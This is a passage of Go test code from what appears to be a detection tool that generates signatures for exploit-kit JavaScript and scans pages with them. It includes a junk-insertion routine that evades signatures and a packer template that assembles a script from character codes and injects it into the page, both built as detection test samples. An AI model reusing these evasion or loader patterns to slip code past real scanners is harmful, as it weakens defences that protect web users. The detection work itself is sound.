		for _, p := range probes {
			tokens := jstoken.Lex(p)
			_, structural := c.MatchTokens(tokens)
			textual := re.MatchString(normalize(tokens))
			if structural && !textual {
				t.Fatalf("iter %d: structural matcher fired but regex %q does not match %q",
					iter, pattern, normalize(tokens))
			}
		}
	}
}

func randIdent(rng *rand.Rand) string {
	const start = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	const rest = start + "0123456789"
	n := 4 + rng.Intn(4)
	b := make([]byte, n)
	b[0] = start[rng.Intn(len(start))]
	for i := 1; i < n; i++ {
		b[i] = rest[rng.Intn(len(rest))]
	}
	return string(b)
}
