package sigmatch

import (
	"fmt"
	"strings"
	"testing"

	"kizzle/internal/ekit"
	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
)

// naiveScanTokens is the pre-anchor-index reference: every signature runs
// its own sliding scan over the whole token stream.
func naiveScanTokens(s *Scanner, tokens []jstoken.Token) []Match {
	var out []Match
	for i, c := range s.sigs {
		if off, ok := c.MatchTokens(tokens); ok {
			out = append(out, Match{Family: c.Family(), SignatureIndex: i, TokenOffset: off})
		}
	}
	return out
}

// ekitScanner compiles one signature per kit family from a day of samples
// and returns it alongside a mixed malicious+benign document corpus from
// the surrounding days.
func ekitScanner(t testing.TB, sigDay int) (*Scanner, []string) {
	t.Helper()
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 40
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	byFamily := make(map[string][][]jstoken.Token)
	for _, s := range stream.Day(sigDay) {
		if s.Family == ekit.FamilyBenign {
			continue
		}
		fam := s.Family.String()
		if len(byFamily[fam]) < 8 {
			byFamily[fam] = append(byFamily[fam], jstoken.LexDocument(s.Content))
		}
	}
	scanner, err := NewScanner(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, fam := range ekit.Families {
		samples := byFamily[fam.String()]
		if len(samples) < 2 {
			continue
		}
		sig, err := siggen.Generate(fam.String(), samples, siggen.Config{MinTokens: 8, MaxTokens: 200, MaxLiteral: 64})
		if err != nil {
			continue // some families may lack a common run on some days
		}
		if err := scanner.Add(sig); err != nil {
			t.Fatal(err)
		}
	}
	if scanner.Len() < 2 {
		t.Fatalf("only %d signatures generated", scanner.Len())
	}
	var docs []string
	for day := sigDay; day <= sigDay+1; day++ {
		for _, s := range stream.Day(day) {
			docs = append(docs, s.Content)
		}
	}
	return scanner, docs
}

// TestAnchorScanMatchesNaive: the anchor-indexed single-pass scan must
// produce exactly the matches of the per-signature sliding scan over a
// randomized kit+benign corpus.
func TestAnchorScanMatchesNaive(t *testing.T) {
	scanner, docs := ekitScanner(t, ekit.Date(8, 5))
	matchedDocs, totalMatches := 0, 0
	for di, doc := range docs {
		tokens := jstoken.LexDocument(doc)
		got := scanner.ScanTokens(tokens)
		want := naiveScanTokens(scanner, tokens)
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("doc %d: anchored %v, naive %v", di, got, want)
		}
		if det := scanner.DetectsTokens(tokens); det != (len(want) > 0) {
			t.Fatalf("doc %d: Detects %v with %d naive matches", di, det, len(want))
		}
		if len(got) > 0 {
			matchedDocs++
			totalMatches += len(got)
		}
	}
	if matchedDocs == 0 {
		t.Fatal("corpus produced no matches; differential test vacuous")
	}
	t.Logf("%d/%d docs matched (%d matches)", matchedDocs, len(docs), totalMatches)
}

// TestAnchorFallbackUnanchored: a signature with no literal element (all
// classes) must still match via the sliding fallback.
func TestAnchorFallbackUnanchored(t *testing.T) {
	sig := siggen.Signature{Family: "X", Elements: []siggen.Element{
		{Kind: siggen.KindClass, Class: "[a-z]", MinLen: 3, MaxLen: 5, Group: 0},
		{Kind: siggen.KindClass, Class: "[0-9]", MinLen: 2, MaxLen: 2, Group: -1},
		{Kind: siggen.KindBackref, Group: 0},
	}}
	s, err := NewScanner([]siggen.Signature{sig})
	if err != nil {
		t.Fatal(err)
	}
	if len(s.unanchored) != 1 {
		t.Fatalf("unanchored = %v, want one entry", s.unanchored)
	}
	tokens := jstoken.Lex(`foo 42 foo`)
	matches := s.ScanTokens(tokens)
	if len(matches) != 1 {
		t.Fatalf("matches = %v", matches)
	}
	if !s.DetectsTokens(tokens) {
		t.Error("DetectsTokens missed the unanchored signature")
	}
	if s.DetectsTokens(jstoken.Lex(`foo 42 bar`)) {
		t.Error("back-reference violated")
	}
}

// TestScanAllMatchesScanTokens: the batched worker-pool entry point must
// agree sample-for-sample with serial scans.
func TestScanAllMatchesScanTokens(t *testing.T) {
	scanner, docs := ekitScanner(t, ekit.Date(8, 12))
	streams := make([][]jstoken.Token, len(docs))
	for i, doc := range docs {
		streams[i] = jstoken.LexDocument(doc)
	}
	batch := scanner.ScanAll(streams)
	if len(batch) != len(streams) {
		t.Fatalf("batch results = %d, want %d", len(batch), len(streams))
	}
	for i := range streams {
		want := scanner.ScanTokens(streams[i])
		if fmt.Sprint(batch[i]) != fmt.Sprint(want) {
			t.Fatalf("doc %d: batch %v, serial %v", i, batch[i], want)
		}
	}
	byDoc := scanner.ScanDocuments(docs)
	for i := range docs {
		if fmt.Sprint(byDoc[i]) != fmt.Sprint(batch[i]) {
			t.Fatalf("doc %d: ScanDocuments %v, ScanAll %v", i, byDoc[i], batch[i])
		}
	}
}

// TestGroupsGrownByBackref: groups derivation must be uniform across
// element kinds — a back-reference alone grows the capture space, so a
// signature whose backref group is the maximum does not index out of
// bounds even if validation rules change.
func TestGroupsGrownByBackref(t *testing.T) {
	sig := siggen.Signature{Family: "X", Elements: []siggen.Element{
		{Kind: siggen.KindClass, Class: "[a-z]", MinLen: 1, MaxLen: 8, Group: 1},
		{Kind: siggen.KindLiteral, Literal: ";", Group: -1},
		{Kind: siggen.KindBackref, Group: 1},
	}}
	c, err := Compile(sig)
	if err != nil {
		t.Fatal(err)
	}
	if c.Groups() != 2 {
		t.Errorf("Groups() = %d, want 2", c.Groups())
	}
	if _, ok := c.MatchTokens(jstoken.Lex(`ab ; ab`)); !ok {
		t.Error("signature must match consistent reuse")
	}
	if _, ok := c.MatchTokens(jstoken.Lex(`ab ; cd`)); ok {
		t.Error("signature must reject inconsistent reuse")
	}
}

// BenchmarkScanManySignatures deploys a realistic multi-signature set; the
// anchor index keeps per-token cost flat in the number of signatures where
// the naive scan pays sigs × offsets.
func BenchmarkScanManySignatures(b *testing.B) {
	scanner, _ := ekitScanner(b, ekit.Date(8, 5))
	// Pad the set with structural variants anchored on distinct literals.
	for i := 0; scanner.Len() < 40; i++ {
		marker := fmt.Sprintf("kit_%d_entry", i)
		sig := siggen.Signature{Family: "Pad", Elements: []siggen.Element{
			{Kind: siggen.KindLiteral, Literal: marker, Group: -1},
			{Kind: siggen.KindLiteral, Literal: "=", Group: -1},
			{Kind: siggen.KindClass, Class: "[0-9a-zA-Z]", MinLen: 4, MaxLen: 12, Group: 0},
			{Kind: siggen.KindLiteral, Literal: ";", Group: -1},
			{Kind: siggen.KindBackref, Group: 0},
		}}
		if err := scanner.Add(sig); err != nil {
			b.Fatal(err)
		}
	}
	doc := strings.Repeat(`var filler = compute(1, "x"); `, 300) + `kit_7_entry = abc123; abc123`
	tokens := jstoken.LexDocument(doc)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(scanner.ScanTokens(tokens)) == 0 {
			b.Fatal("miss")
		}
	}
}

// BenchmarkScanManyNaive is the sliding-scan reference for the same set.
func BenchmarkScanManyNaive(b *testing.B) {
	scanner, _ := ekitScanner(b, ekit.Date(8, 5))
	for i := 0; scanner.Len() < 40; i++ {
		marker := fmt.Sprintf("kit_%d_entry", i)
		sig := siggen.Signature{Family: "Pad", Elements: []siggen.Element{
			{Kind: siggen.KindLiteral, Literal: marker, Group: -1},
			{Kind: siggen.KindLiteral, Literal: "=", Group: -1},
			{Kind: siggen.KindClass, Class: "[0-9a-zA-Z]", MinLen: 4, MaxLen: 12, Group: 0},
			{Kind: siggen.KindLiteral, Literal: ";", Group: -1},
			{Kind: siggen.KindBackref, Group: 0},
		}}
		if err := scanner.Add(sig); err != nil {
			b.Fatal(err)
		}
	}
	doc := strings.Repeat(`var filler = compute(1, "x"); `, 300) + `kit_7_entry = abc123; abc123`
	tokens := jstoken.LexDocument(doc)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(naiveScanTokens(scanner, tokens)) == 0 {
			b.Fatal("miss")
		}
	}
}

// referenceScanAnchored is the pre-block-prefilter scalar loop: every
// token pays the length/first-byte test individually. The block-skip scan
// must visit exactly the same candidates in the same order, so its output
// (including the early-stop path) must be identical.
func referenceScanAnchored(s *Scanner, tokens []jstoken.Token, stop *bool) (offsets []int, found []bool) {
	if s.anchoredCount == 0 {
		return nil, nil
	}
	var captures []string
	if s.maxGroups > 0 {
		captures = make([]string, s.maxGroups)
	}
	remaining := s.anchoredCount
	for pos := range tokens {
		v := tokens[pos].Value()
		if len(v) < s.minAnchorLen || len(v) > s.maxAnchorLen || !s.anchorByte[v[0]] {
			continue
		}
		cands, ok := s.index[v]
		if !ok {
			continue
		}
		for _, cand := range cands {
			if found != nil && found[cand.sig] {
				continue
			}
			start := pos - cand.elem
			c := s.sigs[cand.sig]
			if start < 0 || start+len(c.sig.Elements) > len(tokens) {
				continue
			}
			if !c.matchAt(tokens, start, captures) {
				continue
			}
			if found == nil {
				found = make([]bool, len(s.sigs))
				offsets = make([]int, len(s.sigs))
			}
			found[cand.sig], offsets[cand.sig] = true, start
			if stop != nil {
				*stop = true
				return offsets, found
			}
			remaining--
			if remaining == 0 {
				return offsets, found
			}
		}
	}
	return offsets, found
}

// TestBlockPrefilterMatchesScalar pins the 64-byte-block skip loop against
// the scalar per-token prefilter on the EK corpus (multiple distinct
// anchor first bytes and candidate-dense malicious docs) and on synthetic
// streams padded so candidates straddle block boundaries.
func TestBlockPrefilterMatchesScalar(t *testing.T) {
	scanner, docs := ekitScanner(t, 12)
	if len(scanner.anchorFirst) < 1 {
		t.Fatal("no anchored signatures")
	}
	for _, doc := range docs {
		tokens := jstoken.LexDocument(doc)
		gotOff, gotFound := scanner.scanAnchored(tokens, nil)
		wantOff, wantFound := referenceScanAnchored(scanner, tokens, nil)
		for i := range scanner.sigs {
			gf := gotFound != nil && gotFound[i]
			wf := wantFound != nil && wantFound[i]
			if gf != wf || (gf && gotOff[i] != wantOff[i]) {
				t.Fatalf("sig %d: block (%v) vs scalar (%v) disagree", i, gf, wf)
			}
		}
		var gotStop, wantStop bool
		scanner.scanAnchored(tokens, &gotStop)
		referenceScanAnchored(scanner, tokens, &wantStop)
		if gotStop != wantStop {
			t.Fatalf("early-stop disagree: block %v scalar %v", gotStop, wantStop)
		}
	}
	// Synthetic: one anchor byte (IndexByte path) with candidates at block
	// edges, plus empty-value string tokens in the stream.
	sig := siggen.Signature{Family: "f", Elements: []siggen.Element{
		{Kind: siggen.KindLiteral, Literal: "needle"},
		{Kind: siggen.KindLiteral, Literal: "("},
	}}
	one, err := NewScanner([]siggen.Signature{sig})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for i := 0; i < 200; i++ {
		b.WriteString("x = '';\n") // empty string value tokens
		if i%63 == 0 {
			b.WriteString("needle(1);\n")
		}
	}
	tokens := jstoken.LexDocument(b.String())
	gotOff, gotFound := one.scanAnchored(tokens, nil)
	wantOff, wantFound := referenceScanAnchored(one, tokens, nil)
	if (gotFound == nil) != (wantFound == nil) {
		t.Fatalf("synthetic found mismatch: %v vs %v", gotFound, wantFound)
	}
	if gotFound != nil && (gotFound[0] != wantFound[0] || gotOff[0] != wantOff[0]) {
		t.Fatalf("synthetic: block (%v, %d) scalar (%v, %d)", gotFound[0], gotOff[0], wantFound[0], wantOff[0])
	}
	if !gotFound[0] {
		t.Fatal("synthetic needle not found")
	}
}
