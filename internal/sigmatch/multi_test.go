package sigmatch

import (
	"math/rand"
	"strings"
	"testing"

	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
)

// junkInsert sprays superfluous statements between the statements of src —
// the §V evasion attack against single-run structural signatures.
func junkInsert(src string, rng *rand.Rand, prob float64) string {
	stmts := strings.SplitAfter(src, ";")
	templates := []func(*rand.Rand) string{
		func(r *rand.Rand) string { return "var " + junkIdent(r) + "=" + junkIdent(r) + "(" + junkNum(r) + ");" },
		func(r *rand.Rand) string { return junkIdent(r) + "++;" },
		func(r *rand.Rand) string { return "if(" + junkIdent(r) + "){" + junkIdent(r) + "=" + junkNum(r) + ";}" },
		func(r *rand.Rand) string { return junkIdent(r) + "=\"" + junkIdent(r) + "\";" },
		func(r *rand.Rand) string { return "while(false){" + junkIdent(r) + "();}" },
		func(r *rand.Rand) string { return "var " + junkIdent(r) + "=[" + junkNum(r) + "," + junkNum(r) + "];" },
	}
	var sb strings.Builder
	for _, s := range stmts {
		sb.WriteString(s)
		if rng.Float64() < prob {
			sb.WriteString(templates[rng.Intn(len(templates))](rng))
		}
	}
	return sb.String()
}

func junkIdent(rng *rand.Rand) string {
	const chars = "abcdefghijklmnopqrstuvwxyz"
	b := make([]byte, 3+rng.Intn(5))
	for i := range b {
		b[i] = chars[rng.Intn(len(chars))]
	}
	return string(b)
}

func junkNum(rng *rand.Rand) string {
	return string([]byte{byte('1' + rng.Intn(9)), byte('0' + rng.Intn(10))})
}

// packerBody is a stable multi-statement packer body used as the attack
// target; identifiers are templated per sample.
func packerBody(id string) string {
	return `var ` + id + `buf="";` +
		`var ` + id + `d="zz";` +
		`function ` + id + `c(t){` + id + `buf+=t;}` +
		id + `c("101zz102zz");` +
		id + `c("103zz104zz");` +
		`var p=` + id + `buf.split(` + id + `d);` +
		`var el=document.createElement("script");` +
		`for(var i=0;i<p.length;i++){el.text+=String.fromCharCode(p[i]);}` +
		`document.body.appendChild(el);`
}

func junkedSamples(t *testing.T, n int, seed int64) [][]jstoken.Token {
	t.Helper()
	rng := rand.New(rand.NewSource(seed))
	out := make([][]jstoken.Token, n)
	for i := range out {
		out[i] = jstoken.Lex(junkInsert(packerBody(junkIdent(rng)), rng, 0.5))
	}
	return out
}

// TestMultiSignatureDefeatsJunkInsertion is the §V extension end to end:
// junk-sprayed variants break any long single run, but the multi-sequence
// signature still both generates and matches.
func TestMultiSignatureDefeatsJunkInsertion(t *testing.T) {
	samples := junkedSamples(t, 6, 42)

	// A single-run signature demanding real specificity cannot be built:
	// junk lands inside any 30-token window somewhere in some sample.
	if sig, err := siggen.Generate("RIG", samples, siggen.Config{MinTokens: 30, MaxTokens: 200}); err == nil {
		// If one was found, it must not generalize to a fresh junked
		// variant (the run is an accident of these samples' junk).
		c, cerr := Compile(sig)
		if cerr != nil {
			t.Fatal(cerr)
		}
		fresh := junkedSamples(t, 4, 777)
		hits := 0
		for _, f := range fresh {
			if _, ok := c.MatchTokens(f); ok {
				hits++
			}
		}
		if hits == len(fresh) {
			t.Skip("junk landed kindly for the single-run signature in this draw")
		}
	}

	// The multi-sequence signature assembles the stable fragments. A
	// little length slack compensates for the small training cluster.
	mcfg := siggen.DefaultMultiConfig()
	mcfg.LengthSlack = 2
	multi, err := siggen.GenerateMulti("RIG", samples, mcfg)
	if err != nil {
		t.Fatalf("GenerateMulti: %v", err)
	}
	if len(multi.Parts) < 2 {
		t.Fatalf("multi-signature has %d parts, want >= 2", len(multi.Parts))
	}
	cm, err := CompileMulti(multi)
	if err != nil {
		t.Fatal(err)
	}
	// It matches its own samples…
	for i, s := range samples {
		if _, ok := cm.MatchTokens(s); !ok {
			t.Errorf("multi-signature misses source sample %d", i)
		}
	}
	// …and fresh junked variants with different junk placement…
	fresh := junkedSamples(t, 6, 99)
	hit := 0
	for _, f := range fresh {
		if _, ok := cm.MatchTokens(f); ok {
			hit++
		}
	}
	// Fresh junk can still land inside a short part, so demand a strong
	// majority rather than perfection (the single-run signature scores
	// ~0 here).
	if hit < len(fresh)*2/3 {
		t.Errorf("multi-signature matched %d/%d fresh junked variants", hit, len(fresh))
	}
	// …but not benign code.
	for _, benign := range []string{
		`var x = document.getElementById("main"); x.innerHTML = "hi";`,
		`function add(a, b) { return a + b; } var total = add(1, 2);`,
	} {
		if cm.Detects(benign) {
			t.Errorf("multi-signature matched benign %q", benign)
		}
	}
}

func TestMultiSignaturePartsOrdered(t *testing.T) {
	samples := junkedSamples(t, 5, 7)
	multi, err := siggen.GenerateMulti("RIG", samples, siggen.DefaultMultiConfig())
	if err != nil {
		t.Fatal(err)
	}
	cm, err := CompileMulti(multi)
	if err != nil {
		t.Fatal(err)
	}
	// Reversing the token stream order of two parts must not match:
	// build a document that contains the parts' own source fragments in
	// reverse order. Simplest check: the regex join renders with gaps.
	if !strings.Contains(multi.Regex(), `.*?`) {
		t.Errorf("multi regex %q missing gap rendering", multi.Regex())
	}
	if multi.TokenLength() < 12 {
		t.Errorf("total tokens = %d, want >= MinTotalTokens", multi.TokenLength())
	}
	_ = cm
}

func TestCompileMultiErrors(t *testing.T) {
	tests := []struct {
		name string
		sig  siggen.MultiSignature
	}{
		{"no parts", siggen.MultiSignature{Family: "X"}},
		{"empty part", siggen.MultiSignature{Family: "X", Parts: []siggen.Signature{{Family: "X"}}}},
		{"cross-part backref to nothing", siggen.MultiSignature{Family: "X", Parts: []siggen.Signature{
			{Family: "X", Elements: []siggen.Element{{Kind: siggen.KindBackref, Group: 0}}},
		}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := CompileMulti(tt.sig); err == nil {
				t.Error("expected compile error")
			}
		})
	}
}

// TestMultiBackrefAcrossParts verifies capture groups bind across parts.
func TestMultiBackrefAcrossParts(t *testing.T) {
	// Same random identifier appears in two statements separated by
	// per-sample junk, so the two fragments end in different parts.
	mk := func(id, junk string) string {
		return `var ` + id + `="seed";` + junk + `window.go(` + id + `);`
	}
	samples := [][]jstoken.Token{
		jstoken.Lex(mk("aQ1x", `var j1=f(1);var j2=g(2);`)),
		jstoken.Lex(mk("Zp9t", `var kk=h(3);`)),
		jstoken.Lex(mk("Mm4w", `var zz=i(4);var yy=j(5);var xx=k(6);`)),
	}
	multi, err := siggen.GenerateMulti("Nuclear", samples, siggen.MultiConfig{
		Config:         siggen.Config{MinTokens: 4, MaxTokens: 200},
		MaxParts:       4,
		MinTotalTokens: 8,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(multi.Parts) < 2 {
		t.Skipf("junk too uniform, got %d part(s)", len(multi.Parts))
	}
	cm, err := CompileMulti(multi)
	if err != nil {
		t.Fatal(err)
	}
	// Consistent reuse across the gap matches.
	if !cm.Detects(mk("Fr1x", `var ab=b(7);var cd=e(8);`)) {
		t.Error("consistent cross-part variable reuse must match")
	}
	// Inconsistent reuse must fail if a cross-part backref was learned.
	hasBackref := false
	for _, p := range multi.Parts[1:] {
		for _, e := range p.Elements {
			if e.Kind == siggen.KindBackref {
				hasBackref = true
			}
		}
	}
	if hasBackref {
		bad := `var Fr1x="seed";var ab=b(7);window.go(Wq7z);`
		if cm.Detects(bad) {
			t.Error("cross-part back-reference must reject mismatched reuse")
		}
	}
}

func BenchmarkMultiMatch(b *testing.B) {
	rng := rand.New(rand.NewSource(3))
	samples := make([][]jstoken.Token, 5)
	for i := range samples {
		samples[i] = jstoken.Lex(junkInsert(packerBody(junkIdent(rng)), rng, 0.5))
	}
	mcfg := siggen.DefaultMultiConfig()
	mcfg.LengthSlack = 2
	mcfg.QuorumNum, mcfg.QuorumDen = 1, 2
	multi, err := siggen.GenerateMulti("RIG", samples, mcfg)
	if err != nil {
		b.Fatal(err)
	}
	cm, err := CompileMulti(multi)
	if err != nil {
		b.Fatal(err)
	}
	doc := strings.Repeat(`var filler = go(1, "x"); `, 200) + junkInsert(packerBody("Zz9"), rng, 0.5)
	tokens := jstoken.Lex(doc)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, ok := cm.MatchTokens(tokens); !ok {
			b.Fatal("miss")
		}
	}
}
