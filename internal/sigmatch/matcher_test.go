package sigmatch

import (
	"strings"
	"testing"

	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
)

func mustGenerate(t *testing.T, family string, srcs ...string) siggen.Signature {
	t.Helper()
	samples := make([][]jstoken.Token, len(srcs))
	for i, s := range srcs {
		samples[i] = jstoken.Lex(s)
	}
	sig, err := siggen.Generate(family, samples, siggen.Config{MinTokens: 5, MaxTokens: 200})
	if err != nil {
		t.Fatal(err)
	}
	return sig
}

func TestRoundTripFigure9(t *testing.T) {
	srcs := []string{
		`Euur1V = this["l9D"]("ev#333399al");`,
		`jkb0hA = this["uqA"]("ev#ccff00al");`,
		`QB0Xk = this["k3LSC"]("ev#33cc00al");`,
	}
	sig := mustGenerate(t, "Nuclear", srcs...)
	c, err := Compile(sig)
	if err != nil {
		t.Fatal(err)
	}
	// The signature must match all its source samples…
	for _, src := range srcs {
		if _, ok := c.MatchTokens(jstoken.Lex(src)); !ok {
			t.Errorf("signature does not match source sample %q", src)
		}
	}
	// …and a fresh variant with new random names (the generalization
	// that lets Kizzle track kit changes)…
	variant := `Zk99x = this["abc"]("ev#00ff00al");`
	if _, ok := c.MatchTokens(jstoken.Lex(variant)); !ok {
		t.Error("signature does not generalize to a renamed variant")
	}
	// …but not benign code of different shape.
	for _, benign := range []string{
		`var x = document.getElementById("main");`,
		`a = b + c;`,
		`verylongidentifiername = this["toolongproperty"]("ev#333399al");`,
	} {
		if _, ok := c.MatchTokens(jstoken.Lex(benign)); ok {
			t.Errorf("signature matched benign %q", benign)
		}
	}
}

func TestBackrefEnforced(t *testing.T) {
	srcs := []string{
		`aQw3["k"]("x"); aQw3["k"]("y1");`,
		`Zp0t["m"]("x"); Zp0t["m"]("y2");`,
		`m4Jq["z"]("x"); m4Jq["z"]("y3");`,
	}
	sig := mustGenerate(t, "Nuclear", srcs...)
	c, err := Compile(sig)
	if err != nil {
		t.Fatal(err)
	}
	// Consistent reuse matches.
	if _, ok := c.MatchTokens(jstoken.Lex(`xYz1["q"]("x"); xYz1["q"]("y9");`)); !ok {
		t.Error("consistent variable reuse must match")
	}
	// Inconsistent reuse must not match: the back-reference binds.
	if _, ok := c.MatchTokens(jstoken.Lex(`xYz1["q"]("x"); Diff2["q"]("y9");`)); ok {
		t.Error("back-reference must reject mismatched identifier reuse")
	}
}

func TestMatchOffset(t *testing.T) {
	sig := mustGenerate(t, "RIG",
		`pfx(); Euur1V = this["l9D"]("ev#333399al");`,
		`pfx(); jkb0hA = this["uqA"]("ev#ccff00al");`,
	)
	c, err := Compile(sig)
	if err != nil {
		t.Fatal(err)
	}
	tokens := jstoken.Lex(`aaa(); bbb(); pfx(); Qq1abc = this["zzz"]("ev#121212al");`)
	off, ok := c.MatchTokens(tokens)
	if !ok {
		t.Fatal("expected match")
	}
	if off == 0 {
		t.Error("match offset should be inside the stream, not 0")
	}
}

func TestCompileErrors(t *testing.T) {
	tests := []struct {
		name string
		sig  siggen.Signature
	}{
		{"empty", siggen.Signature{Family: "X"}},
		{"unknown class", siggen.Signature{Family: "X", Elements: []siggen.Element{
			{Kind: siggen.KindClass, Class: "[bogus]", MinLen: 1, MaxLen: 2, Group: 0},
		}}},
		{"backref before capture", siggen.Signature{Family: "X", Elements: []siggen.Element{
			{Kind: siggen.KindBackref, Group: 0},
			{Kind: siggen.KindClass, Class: "[0-9]", MinLen: 1, MaxLen: 2, Group: 0},
		}}},
		{"negative backref group", siggen.Signature{Family: "X", Elements: []siggen.Element{
			{Kind: siggen.KindBackref, Group: -1},
		}}},
		{"unknown kind", siggen.Signature{Family: "X", Elements: []siggen.Element{
			{Kind: siggen.ElementKind(99)},
		}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := Compile(tt.sig); err == nil {
				t.Error("expected compile error")
			}
		})
	}
}

func TestScannerMultipleSignatures(t *testing.T) {
	rig := mustGenerate(t, "RIG",
		`var b1 = ""; b1 += "47 y642"; p = b1.split("y6");`,
		`var c2 = ""; c2 += "48 z717"; p = c2.split("z7");`,
	)
	nuclear := mustGenerate(t, "Nuclear",
		`Euur1V = this["l9D"]("ev#333399al");`,
		`jkb0hA = this["uqA"]("ev#ccff00al");`,
	)
	s, err := NewScanner([]siggen.Signature{rig, nuclear})
	if err != nil {
		t.Fatal(err)
	}
	if s.Len() != 2 {
		t.Fatalf("Len = %d, want 2", s.Len())
	}

	matches := s.Scan(`var q9 = ""; q9 += "50 a100"; p = q9.split("a1");`)
	if len(matches) != 1 || matches[0].Family != "RIG" {
		t.Errorf("matches = %+v, want one RIG match", matches)
	}
	matches = s.Scan(`Pp3qXY = this["ab1"]("ev#ffffffal");`)
	if len(matches) != 1 || matches[0].Family != "Nuclear" {
		t.Errorf("matches = %+v, want one Nuclear match", matches)
	}
	if s.Detects(`var benign = document.title;`) {
		t.Error("scanner flagged benign content")
	}
}

func TestScannerAdd(t *testing.T) {
	s, err := NewScanner(nil)
	if err != nil {
		t.Fatal(err)
	}
	if s.Detects(`Euur1V = this["l9D"]("ev#333399al");`) {
		t.Error("empty scanner detected something")
	}
	sig := mustGenerate(t, "Nuclear",
		`Euur1V = this["l9D"]("ev#333399al");`,
		`jkb0hA = this["uqA"]("ev#ccff00al");`,
	)
	if err := s.Add(sig); err != nil {
		t.Fatal(err)
	}
	if !s.Detects(`Zzz999 = this["kkk"]("ev#abababal");`) {
		t.Error("added signature not live")
	}
}

func TestScannerAddInvalid(t *testing.T) {
	s, _ := NewScanner(nil)
	if err := s.Add(siggen.Signature{Family: "X"}); err == nil {
		t.Error("expected error adding empty signature")
	}
}

func TestScanHTMLDocument(t *testing.T) {
	sig := mustGenerate(t, "Nuclear",
		`Euur1V = this["l9D"]("ev#333399al");`,
		`jkb0hA = this["uqA"]("ev#ccff00al");`,
	)
	s, err := NewScanner([]siggen.Signature{sig})
	if err != nil {
		t.Fatal(err)
	}
	doc := `<html><body><p>welcome</p><script>Rr4tXX = this["ppp"]("ev#101010al");</script></body></html>`
	if !s.Detects(doc) {
		t.Error("scanner must find signature inside inline <script>")
	}
}

func TestSignatureLongerThanSample(t *testing.T) {
	sig := mustGenerate(t, "RIG",
		`var a = 1; var b = 2; var c = 3;`,
		`var x = 7; var y = 8; var z = 9;`,
	)
	c, err := Compile(sig)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := c.MatchTokens(jstoken.Lex(`var a = 1;`)); ok {
		t.Error("signature longer than sample must not match")
	}
}

func BenchmarkScan(b *testing.B) {
	srcs := []string{
		`Euur1V = this["l9D"]("ev#333399al");`,
		`jkb0hA = this["uqA"]("ev#ccff00al");`,
	}
	samples := make([][]jstoken.Token, len(srcs))
	for i, s := range srcs {
		samples[i] = jstoken.Lex(s)
	}
	sig, err := siggen.Generate("Nuclear", samples, siggen.Config{MinTokens: 5, MaxTokens: 200})
	if err != nil {
		b.Fatal(err)
	}
	s, err := NewScanner([]siggen.Signature{sig})
	if err != nil {
		b.Fatal(err)
	}
	doc := strings.Repeat(`var filler = compute(1, "x"); `, 300) + `Zk1abc = this["abz"]("ev#00aa00al");`
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if !s.Detects(doc) {
			b.Fatal("miss")
		}
	}
}
