package sigmatch

import (
	"fmt"
	"math/rand"
	"testing"

	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
)

// TestScanBytesMatchesScan pins the zero-copy byte-slice entry points
// against the string path: same documents, same matches, same detection
// verdicts — including documents the scanner was not trained on and the
// empty document.
func TestScanBytesMatchesScan(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	var sigs []siggen.Signature
	var docs []string
	for k := 0; k < 6; k++ {
		srcs := make([]string, 3)
		for i := range srcs {
			id := randIdent(rng)
			srcs[i] = `var ` + id + ` = window["` + randIdent(rng) + `"](` + fmt.Sprint(10+rng.Intn(90)) + `); ` +
				id + `.go("` + randIdent(rng) + `");`
		}
		samples := make([][]jstoken.Token, len(srcs))
		for i, s := range srcs {
			samples[i] = jstoken.Lex(s)
		}
		sig, err := siggen.Generate(fmt.Sprintf("F%d", k), samples, siggen.Config{MinTokens: 5, MaxTokens: 200})
		if err != nil {
			t.Fatal(err)
		}
		sigs = append(sigs, sig)
		docs = append(docs, srcs...)
	}
	docs = append(docs,
		"",
		"var benign = 1;",
		`<html><script>var q = window["x"](42); q.go("y");</script></html>`,
	)
	s, err := NewScanner(sigs)
	if err != nil {
		t.Fatal(err)
	}
	for i, doc := range docs {
		want := s.Scan(doc)
		got := s.ScanBytes([]byte(doc))
		if len(got) != len(want) {
			t.Fatalf("doc %d: ScanBytes %d matches, Scan %d", i, len(got), len(want))
		}
		for j := range want {
			if got[j] != want[j] {
				t.Fatalf("doc %d match %d: bytes %+v vs string %+v", i, j, got[j], want[j])
			}
		}
		if s.DetectsBytes([]byte(doc)) != s.Detects(doc) {
			t.Fatalf("doc %d: DetectsBytes disagrees with Detects", i)
		}
	}

	// Batched byte scanning must align with per-document byte scanning.
	byteDocs := make([][]byte, len(docs))
	for i, doc := range docs {
		byteDocs[i] = []byte(doc)
	}
	batch := s.ScanDocumentsBytes(byteDocs)
	for i, doc := range docs {
		want := s.Scan(doc)
		if len(batch[i]) != len(want) {
			t.Fatalf("batch doc %d: %d matches, want %d", i, len(batch[i]), len(want))
		}
		for j := range want {
			if batch[i][j] != want[j] {
				t.Fatalf("batch doc %d match %d: %+v vs %+v", i, j, batch[i][j], want[j])
			}
		}
	}
}
