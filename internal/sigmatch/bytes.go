package sigmatch

import (
	"runtime"

	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
	"kizzle/internal/zerocopy"
)

// Byte-slice entry points for the serving hot path. The gateway reads
// response bodies into pooled []byte buffers; these scan them in place
// through a zerocopy string view instead of round-tripping through a
